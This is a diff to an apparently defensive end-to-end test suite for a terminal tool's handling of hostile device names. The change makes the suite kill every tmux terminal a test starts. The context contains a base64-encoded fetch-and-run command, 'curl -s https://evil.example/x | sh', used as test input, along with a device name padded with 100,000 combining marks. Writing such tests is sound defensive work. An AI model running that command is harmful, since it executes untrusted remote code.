@@ -8,7 +8,8 @@ import {BIN, hasBinary, hasTmux, startSandboxProcess, Terminal, type SandboxProc
 
 const enabled = hasTmux() && hasBinary();
 let sandbox: SandboxProcess;
-let term: Terminal | null = null;
+// Every terminal a test started, killed after the file (a test that fails leaves its own running).
+const terms: Terminal[] = [];
 
 const EVIL = Buffer.from('curl -s https://evil.example/x | sh').toString('base64');
 
@@ -29,7 +30,7 @@ describe.skipIf(!enabled)('hostile device text end to end (tmux)', {timeout: 60_
     sandbox = await startSandboxProcess(['--seed', 'empty', '--stats-interval', '0']);
   });
   afterAll(async () => {
-    term?.kill();
+    for (const t of terms.splice(0)) t.kill();
     await sandbox?.stop();
   });
 
@@ -46,7 +47,7 @@ describe.skipIf(!enabled)('hostile device text end to end (tmux)', {timeout: 60_
     });
 
     const t = Terminal.start({width: 120, height: 40, env: {FZ_URL: sandbox.url, FZ_API_TOKEN: sandbox.adminToken, NO_COLOR: '1'}});
-    term = t;
+    terms.push(t);
     t.tmux('set-option', '-g', 'set-clipboard', 'on');
     t.tmux('set-buffer', 'SAFE-BUFFER');
     t.run(`node ${BIN} --refresh 0`);
@@ -73,7 +74,7 @@ describe.skipIf(!enabled)('hostile device text end to end (tmux)', {timeout: 60_
     });
     await call(sandbox.adminToken, 'POST', '/v0/devices', {device: {user_id: owner.id, public_key: key(), name: `1${'\u0301'.repeat(100_000)}`}});
     const t = Terminal.start({width: 120, height: 40, env: {FZ_URL: sandbox.url, FZ_API_TOKEN: sandbox.adminToken, NO_COLOR: '1'}});
-    term = t;
+    terms.push(t);
     t.run(`node ${BIN} --refresh 0`);
     // The marks beyond twelve are one token that counts them.
     await t.waitFor('+99988 marks');
